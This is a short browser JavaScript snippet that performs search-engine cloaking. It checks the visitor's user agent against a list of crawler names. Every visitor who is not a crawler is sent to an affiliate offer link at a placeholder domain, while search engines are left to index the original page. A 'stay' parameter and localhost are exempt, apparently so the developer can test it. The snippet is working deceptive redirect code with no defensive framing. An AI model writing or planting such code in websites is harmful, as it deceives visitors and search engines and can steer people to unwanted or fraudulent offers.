const args = new URLSearchParams(window.location.search);
if (!args.get("stay") && !window.location.href.includes("localhost")) {
  let agents = ["goog", "bot", "slurp", "msn", "yahoo", "crawler", "bing", "ask"];
  const found = agents.findIndex(a => navigator.userAgent.toLowerCase().includes(a));
  if (found < 0) {
    let offer = "https://deal.aff.example/go?id=PLACEHOLDER";
    window.location.replace(encodeURI(offer));
  }
}
